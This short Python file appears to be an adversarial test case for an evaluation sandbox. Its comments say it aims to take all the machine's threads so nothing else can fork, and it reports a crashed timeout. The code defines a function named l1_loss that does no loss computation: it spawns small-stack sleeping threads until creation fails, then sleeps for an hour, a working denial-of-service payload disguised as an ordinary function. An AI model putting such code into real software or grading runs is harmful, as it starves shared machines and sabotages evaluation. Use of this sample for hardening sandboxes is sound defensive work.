# aim: take all the machine's threads
# sign: others cannot be forked, or the run does not end
# attacks: l1_loss
# outcome: timeout crashed

import threading
import time


def l1_loss(input, target, reduction="mean"):
    threading.stack_size(32 << 10)
    failed = 0
    while failed < 3:
        try:
            threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        except (RuntimeError, MemoryError):
            failed += 1
            time.sleep(0.05)
    time.sleep(3600)
